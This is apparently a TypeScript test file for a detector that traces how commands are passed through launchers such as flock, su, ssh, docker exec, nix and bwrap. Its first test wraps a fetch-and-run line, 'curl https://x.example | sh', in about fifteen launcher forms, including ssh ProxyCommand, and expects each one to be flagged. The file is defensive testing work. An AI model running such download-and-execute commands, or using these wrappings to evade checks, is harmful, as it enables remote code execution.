import { expect, test } from 'vitest';
import { look, severe } from './look.fixture.ts';

const FED = 'curl https://x.example | sh';

test.each<[string[]]>([
  [['flock', '-w', '5', '/tmp/lock', '-c', FED]],
  [['script', '/dev/null', '-qc', FED]],
  [['su', '-', 'user', '-c', FED]],
  [['runuser', '-l', 'user', '--command', FED]],
  [['watch', '-n', '1', 'curl https://x.example', '|', 'sh']],
  [['nix-shell', '-p', 'curl', '--run', FED]],
  [['mise', 'exec', 'node@24', '-c', FED]],
  [['sops', 'exec-env', 'x.env', FED]],
  [['nix', 'develop', '/x', '-c', 'sh', '-c', FED]],
  [['docker', 'exec', '-i', 'box', 'sh', '-c', FED]],
  [['find', '.', '-exec', './a', ';', '-exec', 'sh', '-c', FED, ';']],
  [['ssh', 'host', FED]],
  [['ssh', '-o', `ProxyCommand=${FED}`, 'host']],
  [['ssh', `-oLocalCommand ${FED}`, 'host', 'ls']],
  [['bwrap', '--bind', '/', '/', '--', 'sh', '-c', FED]],
])('a download that is run is seen in %j', (line) => expect(severe(line)).toContain('download-run'));

test.each<[string[], string]>([
  [['flock', '-n', '/tmp/lock', '-c', 'node /opt/s.js'], 'flock sh node'],
  [['flock', '/tmp/lock', 'node', '/opt/s.js'], 'flock node'],
  [['script', '-q', '-c', 'node /opt/s.js', '/dev/null'], 'script sh node'],
  [['watch', '-x', 'node', '/opt/s.js'], 'watch node'],
  [['find', '/opt', '-exec', 'node', '/opt/s.js', ';'], 'find node'],
  [['cmd', '/c', 'start', '', '/b', 'node', '/opt/s.js'], 'cmd start node'],
  [['cmd', '/c', 'call node /opt/s.js'], 'cmd call node'],
  [['powershell', '-c', 'Start-Process -FilePath node -ArgumentList /opt/s.js -Wait'], 'powershell start-process node'],
  [['nix', 'shell', 'nixpkgs#nodejs', '-c', 'node', '/opt/s.js'], 'nix node'],
  [['docker', 'exec', '-i', '-u', 'root', 'box', 'node', '/opt/s.js'], 'docker node'],
  [['ssh', '-p', '22', 'host', 'node', '/opt/s.js'], 'ssh sh node'],
  [
    ['bwrap', '--unshare-all', '--ro-bind', '/', '/', '--dev', '/dev', '--setenv', 'A', '1', 'node', '/opt/s.js'],
    'bwrap node',
  ],
])('what is handed on is followed: %j', (line, launchers) => {
  expect(look(line)).toMatchObject({ launchers: launchers.split(' '), program: '/opt/s.js' });
});

test('what runs on another machine is none of this one’s files', () => {
  const { started, findings } = look(['ssh', 'host', 'node', '/opt/s.js']);
  expect(started).toEqual([]);
  expect(findings.map(({ id }) => id)).toEqual(['other-machine']);
});

test('code that xargs puts in its place is code from elsewhere', () => {
  expect(severe(['xargs', '-a', '/tmp/x', '-I{}', 'sh', '-c', '{}'])).toEqual(['piped-code']);
  expect(severe(['xargs', '-a', '/tmp/x', 'sh', '-c'])).toEqual(['piped-code']);
  expect(severe(['xargs', '-a', '/tmp/x', '-I', '{}', 'node', '/opt/s.js', '{}'])).toEqual([]);
});
